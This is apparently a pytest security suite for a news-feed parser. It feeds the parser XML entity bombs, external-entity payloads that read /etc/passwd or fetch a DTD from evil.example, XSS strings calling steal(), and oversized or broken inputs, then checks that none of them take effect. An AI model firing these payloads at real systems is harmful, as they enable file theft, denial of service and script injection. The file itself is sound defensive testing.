"""Files made to harm: nothing is fetched or run, little is multiplied, and it is said."""

import json
import re

import pytest

from tests.effort import calls_made
from tests.wire.parsers.samples import SAMPLES, only, parsed

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
BOMB = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>'
PARAMETER = (
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/e.dtd"> %p; '
    "<!ENTITY q '<!ENTITY s SYSTEM \"file:///etc/passwd\">'>]>"
)
ELSEWHERE = '<!-- x --><!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF//EN" "http://evil.example/n.dtd">'
NITF = "<nitf><body><body.content><p>Begin {0} end</p></body.content></body></nitf>"
RSS = "<rss><channel><item><title>Begin {0} end</title><guid>{0}</guid></item></channel></rss>"
G2 = '<newsItem guid="g"><itemMeta><edNote a="{0}">Begin {0} end</edNote></itemMeta></newsItem>'


@pytest.mark.parametrize("document", [NITF, RSS, G2])
@pytest.mark.parametrize(
    ("before", "entity"), [(BOMB, "&l11;"), (OUTSIDE, "&s;"), (PARAMETER, "&s;"), (ELSEWHERE, "")]
)
def test_entities_and_document_types_are_harmless_and_noted(document, before, entity):
    delivery = parsed(before + document.format(entity))
    item = only(delivery)
    assert "Begin" in repr(item)
    assert "root:" not in repr(item)
    assert repr(item).count("ha") < 20
    assert any("DTD" in note for note in delivery.notes)


@pytest.mark.parametrize(
    "raw",
    [
        "<a>" * 100_000,
        "<nitf><body><body.content>" + "<p>" * 100_000,
        "<rss><channel><item>" + "<title>" * 100_000,
        "[" * 100_000,
        '{"uri": "a", "type": "text", "associations": ' + '{"a": ' * 100_000,
        '{"uri": "a", "type": "text", "associations": ' + "[" * 100_000 + "]" * 100_000 + "}",
        "<" * 20_000_000,
        "{" * 1_000_000,
        "\x00" * 1_000_000,
        "<!DOCTYPE " + '"' * 1_000_000,
        "<!DOCTYPE x [" + "<!ENTITY " * 100_000,
    ],
    ids=lambda raw: raw[:12],
)
def test_what_is_nested_or_long_without_sense_is_a_note(raw):
    delivery = parsed(raw)
    assert delivery.notes or delivery.items


EVIL = (
    '<script>steal()</script><img src=x onerror="steal()"><a href="javascript:steal()">Kelmark</a>'
    '<svg onload="steal()"><style>steal{}</style><iframe srcdoc="steal()"></iframe>'
)


def _everywhere(value: object) -> object:
    """Every text in it with the evil behind it, but for what names or counts something."""
    if isinstance(value, dict):
        kept = {"version", "type", "guid", "uri", "id"}
        return {name: one if name in kept else _everywhere(one) for name, one in value.items()}
    if isinstance(value, list):
        return [_everywhere(one) for one in value]
    return value + EVIL if isinstance(value, str) else value


@pytest.mark.parametrize("name", ["feed.json", "ninjs-1.json", "ninjs-2.json", "ninjs-3.json"])
def test_a_script_in_every_field_of_json_ends_up_nowhere(name):
    given = _everywhere(json.loads((SAMPLES / name).read_text(encoding="utf-8")))
    for item in parsed(json.dumps(given)).items:
        _is_harmless(item)


@pytest.mark.parametrize("name", ["rss.xml", "atom.xml", "g2-item.xml", "nitf.xml"])
@pytest.mark.parametrize(
    "tag", ["title", "description", "summary", "p", "headline", "hl1", "edNote"]
)
def test_a_script_in_a_field_of_xml_ends_up_nowhere(name, tag):
    text = (SAMPLES / name).read_text(encoding="utf-8")
    evil = EVIL.replace("<", "&lt;")
    for item in parsed(text.replace(f"</{tag}>", f"{evil}</{tag}>")).items:
        _is_harmless(item)


def _is_harmless(item):
    """Words may speak of a script, as long as they are words and no markup."""
    plain = [item.headline, item.standfirst, item.byline, item.editors_note]
    plain += [picture.caption for picture in item.pictures]
    assert not any("<" in words or "steal()" in words for words in plain)
    tags = re.findall(r"<[^>]*>", item.html)
    assert not any(
        re.search(r"(?i)<(?:script|img|svg|iframe)|steal|javascript", tag) for tag in tags
    )


def test_an_address_that_would_run_something_is_no_address():
    item = only(
        parsed(
            json.dumps(
                {
                    "uri": "a",
                    "type": "picture",
                    "url": "javascript:steal()",
                    "description_text": "A tug.",
                    "renditions": {"r": {"href": "javascript:steal()", "mimetype": "image/jpeg"}},
                }
            )
        )
    )
    assert item.address == ""
    assert [picture.href for picture in item.pictures] == [""]


@pytest.mark.parametrize("name", sorted(path.name for path in SAMPLES.iterdir()))
def test_a_file_cut_off_anywhere_is_read_as_far_as_it_goes_or_noted(name):
    raw = (SAMPLES / name).read_bytes()
    for part in range(1, 50):
        delivery = parsed(raw[: len(raw) * part // 50])
        assert delivery.items or delivery.notes


def test_null_bytes_and_lone_halves_of_characters_are_left_out():
    item = only(
        parsed('{"uri": "a", "type": "text", "headline": "A\\u0000B\\ud800", "version": "\\u0000"}')
    )
    assert item.headline == "AB?"
    assert item.version == ""
    raw = (SAMPLES / "g2-item.xml").read_bytes().replace(b"Kelmark", b"Kel\x00mark")
    assert "Kelmark" in only(parsed(raw)).headline


UNITS = {
    "body_html": ["<div>", "<p>", "<b>", "&amp", "<", "<!--", "<a href='", "</p>", "<table><b>", "x "],
    "headline": ["KILL ", "1st Ld ", "(lead", "<b>", "&"],
    "ednote": ["embargoed ", "not for use ", "until 3 May 1200 ", "KILLS earlier ", "May ", "1200 ", "not for a b c d "],
    "usageterms": ["not for use in Norway, ", "no a b c ", "NORWAY, ", "online 3 ", "A. ", "not for use in A "],
}  # fmt: skip


@pytest.mark.parametrize(
    ("name", "unit"), [(name, unit) for name, units in UNITS.items() for unit in units], ids=ascii
)
def test_twice_the_words_are_at_most_about_twice_the_work(name, unit):
    def act(words):
        return parsed(json.dumps({"uri": "a", "type": "text", name: words}))

    text = unit * (2_000 // len(unit))
    act(text)
    assert calls_made(act, text + text) <= 2.2 * calls_made(act, text) + 3_000


@pytest.mark.parametrize(
    ("before", "unit"),
    [
        ("<rss><channel><item>", "<media:content url='a.jpg'/>x"),
        ("<rss><channel><item>", "<media:group><media:content url='a.jpg'/></media:group>"),
        ("<rss><channel><item>", "<title>a</title>"),
        ("<NewsML><NewsItem>", "<NewsComponent><ContentItem Href='a.jpg'/></NewsComponent>"),
        (
            "<NewsML><NewsItem><NewsComponent>",
            "<ContentItem><DataContent>x</DataContent></ContentItem>",
        ),
        ("<newsMessage>", "<newsItem guid='a'/><packageItem><itemRef residref='a'/></packageItem>"),
        ("<nitf><body><body.content>", "<media><media-reference source='a.jpg'/></media>"),
        ("\x01lns0311 2 wi 120\r\n\x02", "   a (lns) - b\r\n"),
        ("\x16\x16\x01a0442\x1f_l\r\nu a \x12\x11 BC-A   05-04 0140\r\n\x02", "b\r\n"),
    ],
    ids=ascii,
)
def test_twice_the_elements_are_at_most_about_twice_the_work(before, unit):
    def act(count):
        return parsed(before + unit * int(count))

    act("300")
    assert calls_made(act, "600") <= 2.3 * calls_made(act, "300") + 3_000
